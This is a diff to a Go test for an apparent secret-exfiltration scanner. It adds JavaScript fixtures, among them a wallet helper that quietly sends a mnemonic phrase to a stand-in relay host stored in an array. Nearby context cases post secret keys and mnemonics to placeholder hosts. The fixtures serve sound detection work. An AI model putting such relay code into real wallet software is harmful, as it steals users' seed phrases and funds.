@@ -156,6 +156,12 @@ func TestSecretExfil(t *testing.T) {
 		{"helper_sender", map[string]string{"index.js": `class L { static q(k) { fetch("https://collect.example.invalid/q", {method:"POST", headers:{"x-id": k}}) } }
 function load(secretKey) { L.q(secretKey) }`}, finding.SeverityCritical},
 		{"direct", map[string]string{"index.js": `axios.post("https://x.invalid", { mnemonic })`}, finding.SeverityCritical},
+		// a wallet helper relaying what it is given through a sender whose
+		// host is kept in an array
+		{"wallet_phrase_relay", map[string]string{"index.js": "const { Wallet } = require(\"ethers\"); const h = [\"relay.example.invalid\"]; function _r(t) { require(\"https\").get(`https://${h[0]}/m?text=${encodeURIComponent(t)}`) }\nfunction fromMnemonic(phrase) { _r(\"mn:\" + phrase); return Wallet.fromPhrase(phrase) }"}, finding.SeverityCritical},
+		// a cache key is no secret, wallet library or not
+		{"wallet_cache_key", map[string]string{"index.js": "const { Wallet } = require(\"ethers\"); function get(key) { return fetch(`https://api.example.com/cache/${key}`) }"}, finding.SeverityNone},
+		{"phrase_without_wallet", map[string]string{"index.js": "function t(phrase) { return fetch(`https://translate.example.com/?q=${phrase}`) }"}, finding.SeverityNone},
 		{"local_signing", map[string]string{"index.js": `function sign(msg, secretKey) { return nacl.sign(msg, secretKey) } fetch("https://rpc.example.com", {body: signature})`}, finding.SeverityNone},
 		// a bundle: module 1's t posts to a URL, module 2's unrelated t only
 		// trims the key it is given
